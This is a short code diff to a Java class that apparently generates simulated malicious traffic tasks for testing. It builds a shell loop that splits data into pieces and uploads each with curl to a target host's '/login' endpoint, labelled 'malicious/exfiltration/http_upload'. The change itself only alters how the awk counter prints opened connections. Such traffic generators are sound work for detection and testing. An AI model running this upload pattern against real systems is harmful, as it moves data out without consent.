@@ -70,7 +70,7 @@ final class Exfiltration {
                 + "curl -s -m 5 -o /dev/null -w '%{num_connects}\\n' "
                 + (draw.chance(0.5) ? "-d @piece" : "-X PUT -H \"X-Part: $n\" --data-binary @piece") + " http://"
                 + target + ":" + server.port() + "/login?id=$n; n=$((n + 1)); sleep 0.0" + draw.between(1, 9)
-                + "; done | awk '{n += $1} END {print \"connections opened: \" n}'";
+                + "; done | awk '{n += $1; print \"connections opened: \" n; fflush()}'";
         return new Task(
                 "malicious/exfiltration/http_upload", "curl", target, "" + server.port(), LIMIT_SECONDS, script);
     }
